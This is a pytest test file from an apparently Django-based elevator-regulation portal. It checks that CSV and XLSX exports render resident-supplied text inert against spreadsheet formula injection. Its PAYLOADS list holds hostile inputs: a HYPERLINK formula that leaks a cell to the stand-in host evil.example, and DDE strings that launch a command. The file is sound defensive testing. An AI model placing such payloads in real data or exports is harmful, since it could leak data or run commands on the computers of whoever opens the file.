"""Exports are inert (OWASP "CSV Injection"): whatever a resident or a firm typed reaches the regulator's spreadsheet
as text, never as a live formula. Every export (elevators, organisations, faults, complaints, key monitoring, 三无,
credit ranking, import reports) writes through elevator_portal.tabular's csv_stream and xlsx_file."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from complaints.services import complaint_submit
from departments.choices import Category
from elevator_portal.tabular import csv_stream, inert_csv_cell, xlsx_file

from .factories import ElevatorFactory, OrganizationFactory

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def xlsx_rows_and_xml(content: bytes):
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    return rows, sheet_xml


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_cell_that_starts_like_a_formula_is_written_as_text(payload):
    body = "".join(csv_stream(["描述"], [[payload, 5]])).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1] == ["'" + payload, "5"]


@pytest.mark.parametrize("value", ["正常文字", "2026-12-01", "31105104022012070003", 7, None, ""])
def test_other_csv_cells_are_written_as_they_are(value):
    assert inert_csv_cell(value) == value


def test_xlsx_keeps_formula_text_as_a_string_cell_with_every_character():
    target = io.BytesIO()
    xlsx_file(["描述", "数量"], [[payload, -5] for payload in PAYLOADS], target)
    rows, sheet_xml = xlsx_rows_and_xml(target.getvalue())
    assert "<f>" not in sheet_xml  # no formula element anywhere
    # XML keeps a carriage return as a line feed; the text is otherwise the user's, character for character.
    assert [row[0] for row in rows[1:]] == [p.replace("\r", "\n") for p in PAYLOADS] and rows[1][1] == -5


@pytest.fixture
def poisoned(world, plan):
    """An elevator and a use unit whose free-text fields carry formula payloads, and a complaint about it."""
    use_unit = OrganizationFactory(name=PAYLOADS[1], address=PAYLOADS[3], kind="use_unit", district=world["a"].district)
    elevator = ElevatorFactory(
        district=world["a"].district, use_unit=use_unit, address=PAYLOADS[0], building_name=PAYLOADS[2]
    )
    complaint_submit(elevator=elevator, category=Category.BREAKDOWN, description=PAYLOADS[0], address=PAYLOADS[3])
    return world


@pytest.mark.parametrize(
    "url",
    [
        reverse("registry:elevator_list"),
        reverse("registry:organization_list"),
        reverse("complaints:staff_list"),
    ],
)
def test_every_export_writes_residents_text_inert(client, poisoned, url):
    client.force_login(poisoned["users"]["city"])
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    cells = [
        cell
        for row in csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
        for cell in row
    ]
    found = [cell for cell in cells if any(payload in cell for payload in PAYLOADS)]
    assert found and all(cell.startswith("'") for cell in found), found

    response = client.get(url, {"export": "xlsx"})
    rows, sheet_xml = xlsx_rows_and_xml(b"".join(response.streaming_content))
    assert "<f>" not in sheet_xml
    assert any(cell in PAYLOADS for row in rows for cell in row)
